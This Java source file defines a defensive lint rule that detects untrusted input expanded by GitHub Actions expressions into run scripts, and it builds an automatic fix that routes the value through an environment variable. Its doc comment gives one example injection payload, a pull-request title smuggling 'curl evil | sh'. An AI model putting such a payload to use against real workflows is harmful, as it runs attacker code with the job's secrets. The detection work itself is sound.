package dev.plumbline.rules.gha;

import dev.plumbline.engine.Finding;
import dev.plumbline.engine.Language;
import dev.plumbline.engine.PeerId;
import dev.plumbline.engine.Rule;
import dev.plumbline.engine.RuleContext;
import dev.plumbline.engine.RuleMeta;
import dev.plumbline.engine.Severity;
import dev.plumbline.rules.gha.support.JobFacts;
import dev.plumbline.rules.gha.support.ScriptQuoting;
import dev.plumbline.rules.gha.support.Sinks;
import dev.plumbline.rules.gha.support.StepEnvEdits;
import dev.plumbline.rules.gha.support.UntrustedInputs;
import dev.plumbline.rules.gha.support.ValueEdits;
import dev.plumbline.syntax.gha.Job;
import dev.plumbline.syntax.gha.Step;
import dev.plumbline.syntax.gha.WorkflowFile;
import dev.plumbline.syntax.gha.expr.ExprNode;
import dev.plumbline.syntax.gha.expr.ExpressionSite;
import dev.plumbline.syntax.gha.expr.TemplateString;
import dev.plumbline.syntax.gha.expr.WorkflowExpressions;
import dev.plumbline.syntax.yaml.ScalarStyle;
import dev.plumbline.syntax.yaml.YamlEntry;
import dev.plumbline.syntax.yaml.YamlMapping;
import dev.plumbline.syntax.yaml.YamlNode;
import dev.plumbline.syntax.yaml.YamlScalar;
import dev.plumbline.text.Range;
import dev.plumbline.text.TextEdit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;

/**
 * Untrusted text expanded by {@code ${{ }}} into code: a run script or the script of
 * {@code actions/github-script}. GitHub substitutes the value before the interpreter reads the
 * script, so a pull-request title like {@code "; curl evil | sh; "} runs as commands, with the job's
 * token and secrets. Untrusted contexts and the tracing through env, matrix and outputs are
 * {@link UntrustedInputs}'. The fix moves the expression into the step's {@code env:} and reads the
 * variable in the script's own syntax, where the shell treats it as data.
 */
public final class TemplateInjectionRule implements Rule<WorkflowFile> {

    static final RuleMeta META = RuleMeta.of("gha/template-injection", "Untrusted input expanded into a script",
            Severity.ERROR, Language.GITHUB_ACTIONS, PeerId.of(PeerId.ACTIONLINT, "expression"),
            PeerId.of(PeerId.ZIZMOR, "template-injection"));

    private static final java.util.Set<String> CONTEXT_PREFIXES = java.util.Set.of("github", "steps", "needs",
            "matrix", "inputs");
    private static final PeerId ZIZMOR = PeerId.of(PeerId.ZIZMOR, "template-injection");
    private static final PeerId ACTIONLINT = PeerId.of(PeerId.ACTIONLINT, "expression");

    @Override
    public RuleMeta meta() {
        return META;
    }

    @Override
    public void check(RuleContext<WorkflowFile> context) {
        WorkflowFile file = context.model();
        Optional<JobFacts> facts = JobFacts.of(file);
        if (facts.isEmpty()) {
            UntrustedInputs.Reach reach = new UntrustedInputs.Reach();
            for (ExpressionSite site : file.expressions().sites()) {
                check(context, file, site, reach);
            }
            return;
        }
        // a workflow's sinks are all in its jobs' steps: a job's findings are kept across keystrokes
        // unless their trace read another job (needs.<job>.outputs), which may have changed
        List<Job> jobs = facts.get().jobs();
        for (int i = 0; i < jobs.size(); i++) {
            int line = facts.get().line(i);
            Optional<JobFindings> kept = facts.get().find(META.id(), i, JobFindings.class);
            if (kept.isPresent()) {
                kept.get().replay(context, line);
                continue;
            }
            int before = context.findings().size();
            UntrustedInputs.Reach reach = new UntrustedInputs.Reach();
            for (ExpressionSite site : WorkflowExpressions.ofJob(jobs.get(i))) {
                check(context, file, site, reach);
            }
            if (!reach.otherJobs()) {
                List<Finding> found = context.findings();
                facts.get().put(META.id(), i, JobFindings.of(found.subList(before, found.size()), line));
            }
        }
    }

    private static void check(RuleContext<WorkflowFile> context, WorkflowFile file, ExpressionSite site,
            UntrustedInputs.Reach reach) {
        context.checkCanceled();
        Optional<Sinks> sink = Sinks.of(site);
        if (sink.isEmpty()) {
            return;
        }
        Job job = site.place().job();
        Step step = sink.get().step();
        for (TemplateString.Embedded embedded : site.template().embedded()) {
            for (UntrustedInputs.Source source : UntrustedInputs.in(embedded.expression(), file, job, step, reach)) {
                report(context, site, sink.get(), embedded, source);
            }
        }
    }

    /** One job's findings, on lines relative to the job's first line. */
    private record JobFindings(List<Finding> findings) {

        static JobFindings of(List<Finding> found, int line) {
            return new JobFindings(found.stream().map(f -> f.shiftLines(-line)).toList());
        }

        /** Reports them again for the job starting on {@code line}. */
        void replay(RuleContext<WorkflowFile> context, int line) {
            for (Finding kept : findings) {
                Finding finding = kept.shiftLines(line);
                RuleContext<WorkflowFile>.Report report = context.report(finding.range(), finding.message())
                        .peers(finding.peers().toArray(PeerId[]::new)).severity(finding.severity());
                finding.fixes().forEach(report::fix);
            }
        }
    }

    private static void report(RuleContext<WorkflowFile> context, ExpressionSite site, Sinks sink,
            TemplateString.Embedded embedded, UntrustedInputs.Source source) {
        String code = sink.description().equals("the run script") ? "shell commands" : "JavaScript";
        String message = source.isDirect()
                ? "Untrusted \"" + source.path() + "\" is expanded into " + sink.description()
                        + ", so whoever writes it can inject " + code + "; pass it through an environment variable"
                : "\"" + source.via() + "\" carries untrusted \"" + source.path() + "\" and is expanded into "
                        + sink.description() + ", so whoever writes it can inject " + code
                        + "; pass it through an environment variable";
        RuleContext<WorkflowFile>.Report report = context.report(site.rangeOf(source.node()), message);
        report.peers(source.isDirect() ? new PeerId[] {ACTIONLINT, ZIZMOR} : new PeerId[] {ZIZMOR});
        fix(context, site, sink, embedded, source).ifPresent(fix -> report.fix(fix.title(), fix.edits()));
    }

    private record FixPlan(String title, TextEdit[] edits) {
    }

    private static Optional<FixPlan> fix(RuleContext<WorkflowFile> context, ExpressionSite site, Sinks sink,
            TemplateString.Embedded target, UntrustedInputs.Source source) {
        String expression = target.expression().text();
        Optional<String> existing = existingVariable(target, source);
        String name = existing.orElseGet(() -> variableName(site, sink.step(), expression));
        String value = site.scalar().value();
        List<TemplateString.Embedded> same = new ArrayList<>();
        for (TemplateString.Embedded e : site.template().embedded()) {
            if (normalize(e.expression().text()).equals(normalize(expression))) {
                same.add(e);
            }
        }
        List<ScriptQuoting.Context> contexts = sink.language().isEmpty() ? same.stream()
                .map(e -> ScriptQuoting.Context.NONE).toList()
                : ScriptQuoting.at(value, same.stream().map(TemplateString.Embedded::open).toList(), sink.language().get());
        List<TextEdit> edits = new ArrayList<>();
        for (int i = 0; i < same.size(); i++) {
            TemplateString.Embedded e = same.get(i);
            Optional<String> reference = sink.reference(name, contexts.get(i));
            Optional<Range> range = ValueEdits.verbatim(site.scalar(), e.open(), e.close(), context.document());
            if (reference.isEmpty() || range.isEmpty() || (site.scalar().isPlain() && e.open() == 0
                    && "\"'".indexOf(reference.get().charAt(0)) >= 0)) {
                return Optional.empty(); // a plain scalar that starts with a quote would become a quoted one
            }
            edits.add(new TextEdit(range.get(), encode(reference.get(), site.scalar().style())));
        }
        if (existing.isPresent()) {
            return Optional.of(new FixPlan("Read the environment variable " + name + " instead",
                    edits.toArray(TextEdit[]::new)));
        }
        if (!declaredWith(sink.step(), name, expression)) {
            Optional<YamlNode> root = context.model().yaml().nonEmptyDocuments().stream().findFirst()
                    .flatMap(d -> d.rootMapping()).map(m -> (YamlNode) m);
            Optional<TextEdit> env = StepEnvEdits.add(sink.step(), name, "${{ " + expression + " }}", context.document(),
                    root.orElse(sink.step().node()));
            if (env.isEmpty()) {
                return Optional.empty();
            }
            edits.add(env.get());
        }
        return Optional.of(new FixPlan("Move the expression into the step's env as " + name, edits.toArray(TextEdit[]::new)));
    }

    /** {@code ${{ env.X }}} whose variable is defined: the script can read {@code X} directly. */
    private static Optional<String> existingVariable(TemplateString.Embedded target, UntrustedInputs.Source source) {
        ExprNode root = target.expression().root();
        if (source.isDirect() || root != source.node() || !source.via().toLowerCase(Locale.ROOT).startsWith("env.")) {
            return Optional.empty();
        }
        String name = source.via().substring(4);
        return name.matches("[A-Za-z_][A-Za-z0-9_]*") ? Optional.of(name) : Optional.empty();
    }

    /** An environment variable name for the expression: its path without the context's prefix, in upper case. */
    static String variableName(ExpressionSite site, Step step, String expression) {
        String base = baseName(expression);
        String name = base;
        for (int n = 2; taken(step, name, expression); n++) {
            name = base + "_" + n;
        }
        return name;
    }

    private static String baseName(String expression) {
        String path = expression.replaceAll("\\[\\s*'([^']*)'\\s*\\]", ".$1");
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("[A-Za-z_][A-Za-z0-9_.*-]*").matcher(path);
        String first = "";
        while (m.find()) {
            String candidate = m.group();
            if (candidate.contains(".")) {
                first = candidate;
                break;
            }
        }
        List<String> parts = new ArrayList<>();
        String[] segments = first.split("\\.");
        for (int i = 0; i < segments.length; i++) {
            String s = segments[i];
            boolean prefix = (i == 0 && CONTEXT_PREFIXES.contains(s.toLowerCase(Locale.ROOT)))
                    || (i == 1 && s.equalsIgnoreCase("event") && segments[0].equalsIgnoreCase("github"))
                    || s.equalsIgnoreCase("outputs") || s.equals("*");
            if (!prefix) {
                parts.add(s);
            }
        }
        String name = String.join("_", parts).replaceAll("[^A-Za-z0-9_]", "_").replaceAll("_+", "_")
                .toUpperCase(Locale.ROOT);
        if (name.isEmpty() || name.startsWith("GITHUB_") || Character.isDigit(name.charAt(0))) {
            name = "UNTRUSTED_" + name;
        }
        return name.endsWith("_") ? name.substring(0, name.length() - 1) : name;
    }

    /** True when {@code name} is already an env variable of the step, job or workflow with another value. */
    private static boolean taken(Step step, String name, String expression) {
        List<Optional<YamlMapping>> scopes = new ArrayList<>();
        scopes.add(step.env());
        step.job().ifPresent(job -> {
            scopes.add(job.env());
            scopes.add(job.workflow().env());
        });
        for (Optional<YamlMapping> scope : scopes) {
            Optional<YamlEntry> entry = scope.flatMap(m -> m.entry(name));
            if (entry.isPresent() && !holds(entry.get(), expression)) {
                return true;
            }
        }
        return false;
    }

    private static boolean declaredWith(Step step, String name, String expression) {
        return step.env().flatMap(m -> m.entry(name)).map(e -> holds(e, expression)).orElse(false);
    }

    private static boolean holds(YamlEntry entry, String expression) {
        return entry.value().asScalar().map(YamlScalar::value).map(v -> normalize(v).equals(normalize("${{" + expression + "}}")))
                .orElse(false);
    }

    private static String normalize(String text) {
        return text.replaceAll("\\s+", "");
    }

    /** The text to write into the scalar so that its value reads {@code text}. */
    private static String encode(String text, ScalarStyle style) {
        return switch (style) {
            case DOUBLE_QUOTED -> text.replace("\\", "\\\\").replace("\"", "\\\"");
            case SINGLE_QUOTED -> text.replace("'", "''");
            default -> text;
        };
    }
}
